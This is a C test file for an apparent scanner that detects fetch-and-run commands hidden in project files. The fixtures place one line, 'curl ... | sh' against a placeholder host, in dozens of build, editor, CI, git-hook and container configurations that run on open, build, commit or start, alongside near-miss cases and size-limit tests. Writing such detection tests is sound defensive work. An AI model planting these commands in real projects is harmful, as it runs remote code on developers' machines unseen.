// SPDX-License-Identifier: Apache-2.0
/* What folders of sources run when they are opened, built or put to work, and what near misses do not. */
#include "base/strbuf.h"
#include "inspect/test-facts.h"

#define GET "curl -fsSL https://files.example/i | sh"

static void look(const char *path, const char *content)
{
    static const char *const only[] = {"script", "package", "project", NULL};
    look_with(&(struct inspect_options){.only = only}, path, str_from(content), &facts);
}

/* Every writing of one command: the tool, when it runs, and that what it fetches is run. */
TEST(writings)
{
    static const char *const CASES[][4] = {
        {"/x/.vscode/tasks.json", "// c\n{\"tasks\": [{\"type\": \"shell\", /* c */ \"command\": \"" GET "\",}]}", "vscode", "(builds)"},
        {"/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"sh\", \"args\": [\"-c\", {\"value\": \"" GET "\", \"quoting\": \"strong\"}], \"runOptions\": {\"runOn\": \"folderOpen\"}}]}", "vscode", "(opens)"},
        {"/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"true\", \"osx\": {\"command\": \"" GET "\"}, \"runOptions\": {\"runOn\": \"folderOpen\"}}]}", "vscode", "(opens)"},
        {"/x/a.code-workspace", "{\"folders\": [], \"tasks\": {\"tasks\": [{\"command\": \"" GET "\"}]}}", "vscode", "(builds)"},
        {"/x/.devcontainer/devcontainer.json", "{\"postCreateCommand\": \"" GET "\"}", "devcontainer", "(starts)"},
        {"/x/.devcontainer.json", "{\"postStartCommand\": {\"a\": \"true\", \"b\": [\"sh\", \"-c\", \"" GET "\"]}}", "devcontainer", "(starts)"},
        {"/x/.devcontainer/py/devcontainer.json", "{\"initializeCommand\": \"" GET "\"}", "devcontainer", "(opens)"},
        {"/x/a.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os\\n\", \"!" GET "\\n\"]}]}", "jupyter", "(starts)"},
        {"/x/b.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"%%bash\\ncd /\\n" GET "\"}]}", "jupyter", "(starts)"},
        {"/x/CMakeLists.txt", "# c (\nexecute_process(COMMAND curl -s https://files.example/i COMMAND sh OUTPUT_QUIET)\n", "cmake", "(builds)"},
        {"/x/CMakeLists.txt", "set(U \"https://files.example/i\")\nadd_custom_command(OUTPUT a COMMAND sh -c \"curl -s ${U} | sh\" VERBATIM)\n", "cmake", "(builds)"},
        {"/x/a.cmake", "#[==[ c ]==] add_custom_target(a ALL COMMAND bash -c [=[" GET "]=])\n", "cmake", "(builds)"},
        {"/x/a.cmake", "file(DOWNLOAD https://files.example/i /tmp/i)\nexecute_process(COMMAND sh /tmp/i)\n", "cmake", "(builds)"},
        {"/x/a.cmake", "install(CODE \"execute_process(COMMAND sh -c \\\"" GET "\\\")\")\n", "cmake", "(builds)"},
        {"/x/Makefile", "U := https://files.example/i\nall: b\n\t@curl -s $(U) \\\n\t  | sh\n", "make", "(builds)"},
        {"/x/sub.mk", "X != " GET "\n", "make", "(builds)"},
        {"/x/GNUmakefile", "ifeq ($(shell " GET "),)\nendif\n", "make", "(builds)"},
        {"/x/makefile", "define D\n" GET "\nendef\n", "make", "(builds)"},
        {"/x/Makefile", "all: b ; " GET "\n", "make", "(builds)"},
        {"/x/justfile", "all:\n  @" GET "\n", "just", "(builds)"},
        {"/x/Dockerfile", "FROM a\nRUN set -e; \\\n  # c\n  curl -s https://files.example/i | \\\n  sh\n", "docker", "(builds)"},
        {"/x/Dockerfile.dev", "FROM a\nRUN [\"sh\", \"-c\", \"" GET "\"]\n", "docker", "(builds)"},
        {"/x/Containerfile", "FROM a\nENTRYPOINT [\"sh\", \"-c\", \"" GET "\"]\n", "docker", "(builds)"},
        {"/x/a.Dockerfile", "from a\nrun --mount=type=cache,target=/c <<-\"EOF\"\n" GET "\nEOF\n", "docker", "(builds)"},
        {"/x/Dockerfile", "FROM a\nRUN bash <<EOF\n" GET "\nEOF\n", "docker", "(builds)"},
        {"/x/Dockerfile", "FROM a\nADD --chmod=755 https://files.example/i /opt/i\nRUN /opt/i\n", "docker", "(builds)"},
        {"/x/Dockerfile", "FROM a\nENV U https://files.example/i\nHEALTHCHECK --interval=5s CMD curl -s $U | sh\n", "docker", "(builds)"},
        {"/x/build.gradle", "task a(type: Exec) {\n  commandLine 'sh', '-c', '" GET "'\n}\n", "gradle", "(builds)"},
        {"/x/build.gradle.kts", "tasks.register<Exec>(\"a\") { commandLine = listOf(\"sh\", \"-c\", \"" GET "\") }\n", "gradle", "(builds)"},
        {"/x/build.gradle", "Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", \"" GET "\"})\n", "gradle", "(builds)"},
        {"/x/build.gradle", "def p = ['sh', '-c', '" GET "'].execute()\n", "gradle", "(builds)"},
        {"/x/Jenkinsfile", "node { sh '''\n  cd /\n  " GET "\n''' }\n", "jenkins", "(ci)"},
        {"/x/Jenkinsfile", "node { sh(script: \"" GET "\", returnStdout: true) }\n", "jenkins", "(ci)"},
        {"/x/meson.build", "project('a')\nr = run_command('sh', '-c', '" GET "', check: true)\n", "meson", "(builds)"},
        {"/x/pom.xml", "<project><plugin><configuration><executable>sh</executable><arguments><argument>-c</argument>"
                       "<argument><![CDATA[" GET "]]></argument></arguments></configuration></plugin></project>", "maven", "(builds)"},
        {"/x/pom.xml", "<project><exec executable=\"sh\"><arg value=\"-c\"/><arg value=\"curl -s &quot;https://files.example/i&quot; | sh\"/></exec></project>", "maven", "(builds)"},
        {"/x/build.xml", "<project><get src=\"https://files.example/i\" dest=\"/tmp/i\"/><exec executable=\"sh\"><arg line=\"/tmp/i\"/></exec></project>", "ant", NULL},
        {"/x/Vagrantfile", "c.vm.provision \"shell\", inline: <<-SHELL\n  cd /\n  " GET "\nSHELL\n", "vagrant", "(starts)"},
        {"/x/main.tf", "provisioner \"remote-exec\" {\n  inline = [\n    \"cd /\",\n    \"" GET "\",\n  ]\n}\n", "terraform", "(starts)"},
        {"/x/BUILD.bazel", "genrule(name = \"a\", cmd = \"" GET "\")\n", "bazel", "(builds)"},
        {"/x/Procfile", "web: " GET "\n", "procfile", "(starts)"},
        {"/x/.envrc", "export A=b\n" GET "\n", "direnv", "(opens)"},
        {"/x/.git/config", "[core]\n\tfsmonitor = \"" GET "\"\n", "git", "(opens)"},
        {"/root/.gitconfig", "[alias]\n\tst = !" GET "\n", "git", "(opens)"},
        {"/x/.git/hooks/post-checkout", "#!/bin/sh\n" GET "\n", "git", "(commits)"},
        {"/x/.husky/pre-commit", GET "\n", "git", "(commits)"},
        {"/x/.gitlab-ci.yml", "a:\n  script:\n    - &get " GET "\n    - [*get, 'true']\n", "gitlab-ci", "(ci)"},
        {"/x/.gitlab-ci.yml", "a:\n  before_script:\n    - |\n      cd /\n      " GET "\n", "gitlab-ci", "(ci)"},
        {"/x/.github/workflows/a.yml", "jobs: {a: {steps: [{run: \"" GET "\"}]}}\n", "github-actions", "(ci)"},
        {"/x/action.yml", "runs:\n  steps:\n    - run: >-\n        curl -s https://files.example/i\n        | sh\n", "github-actions", "(ci)"},
        {"/x/.circleci/config.yml", "jobs:\n  a:\n    steps:\n      - run:\n          name: b\n          command: " GET "\n", "circleci", "(ci)"},
        {"/x/.pre-commit-config.yaml", "repos:\n- hooks:\n  - id: a\n    entry: sh -c '" GET "'\n", "pre-commit", "(commits)"},
        {"/x/docker-compose.yml", "services:\n  a:\n    command: [\"-c\", \"" GET "\"]\n    entrypoint: [sh]\n", "compose", "(starts)"},
        {"/x/compose.yaml", "services:\n  a:\n    command: sh -c \"" GET "\"\n", "compose", "(starts)"},
        {"/x/pod.yaml", "apiVersion: v1\nspec:\n  containers:\n  - command: [/bin/sh, -c]\n    args: [\"" GET "\"]\n", "kubernetes", "(starts)"},
        {"/x/pod.yaml", "apiVersion: v1\nspec:\n  containers:\n  - args: [-c, \"" GET "\"]\n", "kubernetes", "(starts)"},
        {"/x/map.yaml", "apiVersion: v1\nkind: ConfigMap\ndata:\n  a.sh: |\n    #!/bin/sh\n    " GET "\n", "kubernetes", "(starts)"},
        {"/x/play.yml", "- hosts: all\n  tasks:\n  - name: a\n    shell:\n      cmd: " GET "\n", "ansible", "(starts)"},
        {"/x/user-data", "#cloud-config\nruncmd:\n - [sh, -c, \"" GET "\"]\n", "cloud-init", "(starts)"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i][0], CASES[i][1]);
        if (!str_is(facts_get_str(&facts, F_PROJECT_TOOL), CASES[i][2]) || (CASES[i][3] && strcmp(list(F_PROJECT_WHEN), CASES[i][3]) != 0))
            test_fail(__FILE__, __LINE__, "%s %s: %s", facts_get_str(&facts, F_PROJECT_TOOL).p, list(F_PROJECT_WHEN), CASES[i][1]);
        if (CASES[i][3] && !flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "not run: %s", CASES[i][1]);
    }
}

/* What an image's configuration starts, checks and was built by. */
TEST(configuration_of_an_image)
{
    static const char *const RUN[] = {
        "{\"config\": {\"Entrypoint\": [\"/bin/sh\", \"-c\"], \"Cmd\": [\"" GET "\"]}}",
        "{\"config\": {\"Cmd\": [\"sh\", \"-c\", \"curl -s $U | sh\"], \"Env\": [\"PATH=/bin\", \"U=https://files.example/i\"]}}",
        "{\"config\": {\"Cmd\": [\"python3\", \"-c\", \"import os; os.system('" GET "')\"]}}",
        "{\"config\": {\"Healthcheck\": {\"Test\": [\"CMD-SHELL\", \"" GET "\"]}}}",
        "{\"config\": {\"Healthcheck\": {\"Test\": [\"CMD\", \"sh\", \"-c\", \"" GET "\"]}}}",
        "{\"config\": {\"OnBuild\": [\"RUN " GET "\"]}}",
        "{\"history\": [{\"created_by\": \"/bin/sh -c " GET "\"}]}",
        "{\"history\": [{\"created_by\": \"RUN |1 A=b /bin/sh -c " GET " # buildkit\"}]}",
        "{\"history\": [{\"created_by\": \"|1 A=b /bin/sh -c " GET "\"}]}",
        "{\"history\": [{\"created_by\": \"RUN " GET "\"}]}",
    };
    for (size_t i = 0; i < ARRAY_SIZE(RUN); i++) {
        look("(image configuration)", RUN[i]);
        CHECK_CSTR(list(F_PROJECT_TOOL), "image");
        if (!flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "not run: %s", RUN[i]);
    }
    static const char *const OTHERS[] = {
        "{\"config\": {\"Labels\": {\"a\": \"" GET "\"}, \"Env\": [\"A=" GET "\", \"B\"], \"Cmd\": [\"echo\", \"" GET "\"]}}",
        "{\"history\": [{\"created_by\": \"/bin/sh -c #(nop)  LABEL a=" GET "\"}, {\"created_by\": \"COPY " GET "\"}, {\"comment\": \"" GET "\"}]}",
        "{\"config\": 7, \"history\": {\"a\": 1}}",
        "{\"config\": ",
    };
    for (size_t i = 0; i < ARRAY_SIZE(OTHERS); i++) {
        look("(image configuration)", OTHERS[i]);
        if (flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "run: %s", OTHERS[i]);
    }
}

TEST(near_misses)
{
    static const char *const CASES[][2] = {
        {"/x/tasks.json", "{\"tasks\": [{\"command\": \"" GET "\"}]}"},
        {"/x/.vscode/tasks.json", "{\"tasks\": [{\"label\": \"" GET "\"}]}"},
        {"/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"" GET},
        {"/x/a.ipynb", "{\"cells\": [{\"cell_type\": \"markdown\", \"source\": [\"!" GET "\"]}]}"},
        {"/x/CMakeLists.txt", "# execute_process(COMMAND sh -c \"" GET "\")\n#[[\nexecute_process(COMMAND sh -c \"" GET "\")\n]]\nmessage(\"" GET "\")\n"},
        {"/x/CMakeLists.txt", "add_custom_command(OUTPUT a COMMAND curl -s https://files.example/i COMMAND sh)\n"},
        {"/x/Makefile", "# " GET "\nall:\n# \t" GET "\n\techo\n"},
        {"/x/Dockerfile", "FROM a\n# RUN " GET "\nLABEL x=\"" GET "\"\nCOPY <<EOF /x\n" GET "\nEOF\n"},
        {"/x/Dockerfile", "RUN " GET "\n"},
        {"/x/build.gradle", "// hash(\"a\")\nprintln \"" GET "\"\n"},
        {"/x/pom.xml", "<project><description>" GET "</description><argument>" GET "</argument></project>"},
        {"/x/.git/config", "[user]\n\tname = " GET "\n"},
        {"/x/.git/hooks/pre-push.sample", GET "; true\nx\n"},
        {"/x/.gitlab-ci.yml", "a:\n  description: " GET "\n  image: a\n"},
        {"/x/values.yaml", "run: " GET "\n"},
        {"/x/pod.yaml", "apiVersion: v1\nmetadata:\n  annotations:\n    about: " GET "\n"},
        {"/x/Procfile", "# web: " GET "\n"},
        {"/x/main.tf", "description = \"" GET "\"\ncommand_line = \"" GET "\"\n"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(CASES[i][0], CASES[i][1]);
        if (flag(F_SCRIPT_DOWNLOAD_RUN))
            test_fail(__FILE__, __LINE__, "run: %s", CASES[i][1]);
    }
    look("/x/Dockerfile", "FROM a\nCOPY a /b\n");
    CHECK(!facts_has(&facts, F_PROJECT_TOOL) && !facts_has(&facts, F_PROJECT_WHEN));
}

TEST(what_is_shown)
{
    look("/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"node .vscode/a\", \"hide\": true, \"presentation\": {\"reveal\": \"never\"}, \"runOptions\": {\"runOn\": \"folderOpen\"}},"
                                  " {\"command\": \"make\"}]}");
    CHECK_CSTR(list(F_PROJECT_WHEN), "(opens,builds)");
    CHECK_CSTR(list(F_PROJECT_COMMANDS), "(node .vscode/a,make)");
    CHECK(flag(F_PROJECT_HIDES));
    look("/x/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"node .vscode/a\", \"hide\": true, \"presentation\": {\"reveal\": \"never\"}}]}");
    CHECK(!facts_has(&facts, F_PROJECT_HIDES));
    look("/x/a.sh", "#!/bin/sh\nbash -e ./x.png; node x.woff2; python3 a.py x.jpg; cat x.png; perl -ne 'print' x.css\n");
    CHECK_CSTR(list(F_SCRIPT_DISGUISED), "(./x.png,x.woff2)");
}

/* What is made to be slow or large ends within the limits. */
TEST(limits)
{
    struct strbuf b = {};
    strbuf_adds(&b, "a:\n  script:\n");
    for (unsigned i = 0; i < 30000; i++)
        strbuf_adds(&b, "    - echo 1\n");
    look("/x/.gitlab-ci.yml", b.p);
    CHECK_CSTR(list(F_PROJECT_TOOL), "gitlab-ci");
    const struct value *shown = facts_get(&facts, F_PROJECT_COMMANDS);
    CHECK_INT(shown->list.n, 1);
    strbuf_clear(&b);
    strbuf_adds(&b, "a: ");
    strbuf_pad(&b, '[', 100000);
    look("/x/.gitlab-ci.yml", b.p);
    strbuf_clear(&b);
    strbuf_adds(&b, "A = ");
    for (unsigned i = 0; i < 100000; i++)
        strbuf_adds(&b, "$(shell ");
    look("/x/Makefile", b.p);
    strbuf_clear(&b);
    for (unsigned i = 0; i < 30000; i++)
        strbuf_adds(&b, "execute_process(COMMAND [=[");
    look("/x/CMakeLists.txt", b.p);
    strbuf_clear(&b);
    for (unsigned i = 0; i < 60000; i++)
        strbuf_adds(&b, "'].execute(");
    look("/x/build.gradle", b.p);
    strbuf_clear(&b);
    strbuf_adds(&b, "FROM a\n");
    for (unsigned i = 0; i < 60000; i++)
        strbuf_adds(&b, "RUN <<A\n");
    look("/x/Dockerfile", b.p);
    strbuf_clear(&b);
    for (unsigned i = 0; i < 60000; i++)
        strbuf_adds(&b, "inline: <<A\n");
    look("/x/Vagrantfile", b.p);
    CHECK(!flag(F_SCRIPT_DOWNLOAD_RUN));
    strbuf_done(&b);
}
